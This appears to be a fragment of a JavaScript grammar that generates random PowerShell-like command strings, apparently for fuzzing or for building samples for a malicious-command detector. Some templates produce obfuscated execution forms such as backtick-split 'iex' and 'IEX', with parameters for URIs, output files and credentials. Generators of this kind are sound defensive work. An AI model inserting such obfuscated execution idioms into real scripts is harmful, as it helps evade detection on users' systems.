    "$env:«PATH|TEMP|USERNAME|COMPUTERNAME|APPDATA|PSModulePath»",
    "$«PSVersionTable|ExecutionContext|PSHOME|PID|host|MyInvocation»",
    "«psverb»-«psnoun» -«ScriptBlock|FilterScript» {«psverb»-«psnoun»}",
    "«psverb»-«psnoun» «psparam»;«psverb»-«psnoun»",
    "i`e`x «rnd»",
    "IEX «q»«rnd»«q»",
    "(«psverb»-«psnoun» «rnd»).«Rnd»",
  ],
  asciicode: (rng) => String(rng.int(40, 122)),
  psparam: [
    "-«Path|LiteralPath|FilePath|Destination|OutFile» «lolfile»",
    "-«Name|Id|Filter|Include|Property|Class|Namespace|Value|Scope|Encoding|Module» «rnd»",
    "-«Recurse|Force|Confirm:$false|WhatIf|Verbose|NoNewline|PassThru|AsJob|Hidden|Raw|Wait»",
    "-«ComputerName|Server» «host»",
    "-Uri «url»",
    "-ErrorAction «SilentlyContinue|Stop|0»",
    "-«Credential|ArgumentList|InputObject» $«rnd»",
    "-«Seconds|First|Last|Milliseconds|Depth» «int»",
    "-«Letter»«rnd» «rnd»",
    "-«rnd2» «rnd»",
  ],
};
